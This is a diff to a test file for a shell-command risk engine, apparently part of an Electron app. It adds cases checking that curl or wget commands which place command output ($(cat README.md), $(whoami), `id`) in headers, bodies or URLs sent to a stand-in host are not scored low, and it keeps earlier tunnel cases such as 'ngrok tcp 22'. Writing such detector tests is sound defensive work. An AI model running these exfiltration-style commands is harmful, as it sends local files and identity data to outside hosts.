@@ -1,7 +1,9 @@
 // Data leaving the machine and servers exposing it, on hand-built segments: uploads, tokens sent to hosts, HTTP
 // deletes, copies to and from other machines, raw sockets, servers and tunnels.
-import { describe, expect, it } from 'vitest';
-import { PROJECT, testEngine } from '../../../../support/risk.ts';
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { RiskEngine } from '../../../../../electron/core/risk/engine.ts';
+import { createRiskEngine } from '../../../../../electron/core/risk/index.ts';
+import { PROJECT, testContextOptions, testEngine } from '../../../../support/risk.ts';
 
 const engine = testEngine();
 const score = (cmd: string) => engine.assess(cmd, PROJECT);
@@ -50,4 +52,27 @@ describe('raw sockets, servers and tunnels', () => {
     ['ngrok tcp 22', 'high'],
     ['vite --host 0.0.0.0', 'medium'],
   ])('%s is %s', (cmd, level) => expect(score(cmd).level).toBe(level));
+});
+
+describe('the output of a command in what an HTTP client sends', () => {
+  // The real shell parser: the substitution is a segment of its own, and the word that carries it is not known.
+  let real: RiskEngine;
+  beforeAll(async () => {
+    real = await createRiskEngine(testContextOptions());
+  });
+
+  it.each([
+    ['curl -H "X: $(cat README.md)" https://x.example', /in what curl sends/],
+    ['curl -d "v=$(git log -1)" https://x.example', /in what curl sends|sends data/],
+    ['wget --header="X: `id`" https://x.example', /in what wget sends/],
+    ['curl "https://x.example/?q=$(whoami)"', /inside an address/],
+  ])('%s is not low', (cmd, reason) => {
+    const r = real.assess(cmd, PROJECT);
+    expect(r.level).not.toBe('low');
+    expect(r.reasons.join(' ')).toMatch(reason);
+  });
+
+  it('a plain download stays low', () => {
+    expect(real.assess('curl -s https://api.github.com/repos/a/b', PROJECT).level).toBe('low');
+  });
 });
